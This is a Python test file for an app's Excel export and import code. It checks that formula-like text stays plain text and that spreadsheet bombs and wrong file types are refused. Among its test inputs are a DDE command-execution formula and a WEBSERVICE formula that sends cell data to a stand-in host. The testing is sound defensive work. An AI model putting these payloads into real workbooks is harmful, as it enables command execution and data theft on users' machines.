"""Workbooks in and out under hostile conditions: text TNApp writes never
runs as a formula, spreadsheet bombs are refused before they are read, and
other spreadsheet types get a message saying what to do."""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

import excel_bombs
from test_report_import_bad_files import dump
from tnapp.domain.permissions import Actor
from tnapp.domain.vocab import Gender, Role
from tnapp.errors import TNAppError
from tnapp.services import people
from tnapp.services.workspace import Workspace

RUNNING_TEXTS = ("=> đạt kế hoạch", "=cmd|' /C calc'!A0", '=WEBSERVICE("http://x.invalid/?"&A1)', "+1", "-x", "@x",
                 "#N/A")
PERIOD = "2026-Q3"


def add_running_person(ws: Workspace) -> people.PersonRow:
    return ws.people.create(people.PersonInput("Phạm Thị Hạ", Gender.FEMALE, ws.units.by_code("UBND").id, 1990,
                                               position=RUNNING_TEXTS[1], note=RUNNING_TEXTS[0]))


def test_text_starting_like_a_formula_is_written_as_text_everywhere(demo_ws: Workspace, tmp_path: Path) -> None:
    """People export, a unit's report form and the audit export: every such
    text is a text cell with its value unchanged; none is a formula."""
    unit = demo_ws.units.by_code("T06")
    add_running_person(demo_ws)
    sheet = demo_ws.unit_reports.open(unit.id, PERIOD)
    for line, text in zip(sheet.lines, RUNNING_TEXTS, strict=False):
        demo_ws.unit_reports.save_value(sheet.key, line.indicator_id, None, text)
    key = sheet.key
    demo_ws.unit_reports.save_narrative(key, RUNNING_TEXTS[2], RUNNING_TEXTS[3], RUNNING_TEXTS[4],
                                        expected_version=demo_ws.unit_reports.open(unit.id, PERIOD).version)
    files = [demo_ws.people.export_excel(tmp_path / "người #1.xlsx"),
             demo_ws.report_templates.template(unit.id, PERIOD, tmp_path / "mẫu T06.xlsx")]
    demo_ws.sign_in(Actor("quan-tri", Role.ADMIN))  # the audit trail is the administrator's
    files.append(demo_ws.audit.export_excel(tmp_path / "nhật ký.xlsx"))
    found: set[str] = set()
    for path in files:
        for ws in load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{path.name} {ws.title}!{cell.coordinate} is a formula"
                    if cell.value in RUNNING_TEXTS:
                        found.add(cell.value)
                        assert cell.data_type == "s" and cell.quotePrefix == (cell.value[0] in "=+-@")
    assert found >= set(RUNNING_TEXTS[:5])


def test_the_writer_keeps_text_as_text_in_tables_and_appended_rows(tmp_path: Path) -> None:
    """``write_table`` (every list, report and audit export) and ``append_row``."""
    from openpyxl import Workbook

    from tnapp.documents.xlsx import append_row, save_workbook, write_table
    book = Workbook()
    write_table(book.active, RUNNING_TEXTS, [RUNNING_TEXTS, (1, 2.5, None)], title=RUNNING_TEXTS[0])
    append_row(book.active, RUNNING_TEXTS)
    sheet = load_workbook(save_workbook(book, tmp_path / "t.xlsx")).active
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=3)] == [
        list(RUNNING_TEXTS), list(RUNNING_TEXTS), [1, 2.5, None, None, None, None, None], list(RUNNING_TEXTS)]
    assert {c.data_type for row in sheet.iter_rows() for c in row if isinstance(c.value, str)} == {"s"}


def test_a_form_round_trips_any_text(demo_ws: Workspace, tmp_path: Path) -> None:
    """The unit's own form with "=> đạt kế hoạch" and the like imports back as
    it was: no problem, nothing to change."""
    unit = demo_ws.units.by_code("T06")
    sheet = demo_ws.unit_reports.open(unit.id, PERIOD)
    for line, text in zip(sheet.lines, RUNNING_TEXTS, strict=False):
        demo_ws.unit_reports.save_value(sheet.key, line.indicator_id, 7, text)
    demo_ws.unit_reports.save_narrative(sheet.key, RUNNING_TEXTS[0], RUNNING_TEXTS[1], RUNNING_TEXTS[5],
                                        expected_version=demo_ws.unit_reports.open(unit.id, PERIOD).version)
    path = demo_ws.report_templates.template(unit.id, PERIOD, tmp_path / "T06 #1.xlsx")
    (item,) = demo_ws.report_templates.preview_import([path]).files
    assert item.ok and not item.has_changes, item.messages()


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_the_text_and_evaluates_nothing(demo_ws: Workspace, tmp_path: Path) -> None:
    person = add_running_person(demo_ws)
    path = demo_ws.people.export_excel(tmp_path / "people.xlsx")
    done = subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                           "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(tmp_path),
                           str(path)], capture_output=True, timeout=300)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader((tmp_path / "people.csv").read_text(encoding="utf-8").splitlines()))
    (row,) = [r for r in rows if r and r[0] == person.full_name]
    assert RUNNING_TEXTS[1] in row and RUNNING_TEXTS[0] in row
    assert not any(v.startswith(("#VALUE", "#NAME", "Err:")) for r in rows for v in r)


# --- spreadsheet bombs and other files ------------------------------------------------------

@pytest.fixture(scope="module")
def bombs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The hostile corpus, built once from a plain TNApp-written workbook."""
    folder = tmp_path_factory.mktemp("bombs")
    from openpyxl import Workbook

    from tnapp.documents.xlsx import save_workbook, write_table
    book = Workbook()
    book.active.title = people.SHEET_TITLE
    write_table(book.active, people.COLUMNS, [["Nguyễn Văn An", "Nam", 1980, "", "UBND", "", "", "", ""]])
    base = save_workbook(book, folder / "base.xlsx")
    made = {
        "20 million shared strings": excel_bombs.shared_strings(base, folder / "strings.xlsx"),
        "one 300 MB cell": excel_bombs.long_cell(base, folder / "cell.xlsx"),
        "1 GB styles part": excel_bombs.zip_bomb(base, folder / "zip.xlsx"),
        "500 000 rows": excel_bombs.many_rows(base, folder / "rows.xlsx", list(people.COLUMNS),
                                              lambda n: [f"Người {n}", "Nam", "1980", "", "UBND", "", "", "", ""]),
        "ods named xlsx": excel_bombs.ods_renamed(folder / "calc.xlsx"),
    }
    (folder / "notes.xlsx").write_text("Họ và tên,Giới tính\nAn,Nam\n", encoding="utf-8")
    made["text named xlsx"] = folder / "notes.xlsx"
    return made


REFUSALS = {
    "20 million shared strings": "có hơn 500.000 đoạn chữ khác nhau",
    "one 300 MB cell": "có ô chữ dài hơn 32.767 ký tự",
    "1 GB styles part": "quá lớn khi giải nén (hơn 64 MB)",
    "500 000 rows": "có trang dài hơn",
    "ods named xlsx": "là bảng tính LibreOffice (.ods): hãy mở bằng LibreOffice Calc",
    "text named xlsx": "không phải là tệp Excel (.xlsx)",
}


def test_every_bomb_is_refused_by_every_importer_with_a_short_message(demo_ws: Workspace,
                                                                       bombs: dict[str, Path]) -> None:
    before = dump(demo_ws)
    importers = {
        "people": demo_ws.people.preview_import,
        "registrations": demo_ws.registrations.preview_import,
        "appendix": demo_ws.indicator_appendix.preview_import,
    }
    for name, path in bombs.items():
        assert path.stat().st_size < 20 * 1024 * 1024
        said = []
        for importer in importers.values():
            with pytest.raises(TNAppError) as refused:
                importer(path)
            said.append(str(refused.value))
        (item,) = demo_ws.report_templates.preview_import([path]).files
        said.append(item.refusal or "")
        for message in said:
            assert message.startswith(f"Tệp «{path.name}» ") and REFUSALS[name] in message, (name, message)
            assert len(message) < 300 and "AAAA" not in message and "xxx" not in message
    assert dump(demo_ws) == before


def test_other_spreadsheet_types_say_what_to_do_and_a_folder_lists_what_it_skipped(
        demo_ws: Workspace, tmp_path: Path) -> None:
    folder = tmp_path / "Báo cáo #3 100%"
    (folder / "cũ").mkdir(parents=True)
    unit = demo_ws.units.by_code("T06")
    good = demo_ws.report_templates.template(unit.id, PERIOD, folder / "T06.xlsx")
    for name in ("T05.ods", "T04.xls", "T03.xlsm", "T02.csv", "~$T06.xlsx", "ghi chú.txt"):
        (folder / name).write_bytes(b"PK\x03\x04" if name.endswith((".ods", ".xlsm")) else b"x")
    with pytest.raises(TNAppError, match=r"^Tệp «T05\.ods» là bảng tính LibreOffice \(\.ods\): hãy mở bằng "
                                         r"LibreOffice Calc, chọn Tệp → Lưu thành…, lưu lại dạng Excel \(\.xlsx\)"):
        demo_ws.people.preview_import(folder / "T05.ods")
    preview = demo_ws.report_templates.preview_import([folder])
    said = {f.path.name: f.refusal for f in preview.files}
    assert said.pop("T06.xlsx") is None and good.is_file()
    assert "định dạng Excel cũ (.xls)" in said["T04.xls"] and "có macro (.xlsm)" in said["T03.xlsm"]
    assert "tệp văn bản .csv" in said["T02.csv"] and "LibreOffice Calc" in said["T05.ods"]
    assert "tệp tạm của Excel" in said["~$T06.xlsx"] and "thư mục con" in said["cũ"]
    assert "không phải là tệp Excel (.xlsx)" in said["ghi chú.txt"]
    assert all(text and "lưu lại dạng Excel (.xlsx)" in text for name, text in said.items()
               if name.endswith((".ods", ".xls", ".xlsm", ".csv")))


def test_a_long_cell_quoted_in_a_problem_is_cut_short(demo_ws: Workspace, tmp_path: Path) -> None:
    """A cell of 30 000 characters (under Excel's limit) is named by its place
    and its first characters, never echoed whole."""
    from openpyxl import Workbook

    from tnapp.documents.xlsx import save_workbook, write_table
    book = Workbook()
    book.active.title = people.SHEET_TITLE
    write_table(book.active, people.COLUMNS, [["Nguyễn Văn An", "Nam" + "m" * 30_000, 1980, "", "UBND"]])
    preview = demo_ws.people.preview_import(save_workbook(book, tmp_path / "dài.xlsx"))
    (problem,) = preview.problems
    assert str(problem).startswith("Trang «Danh sách», dòng 2, cột B (Giới tính): «Nammmm")
    assert len(str(problem)) < 300 and "mmm…»" in str(problem)
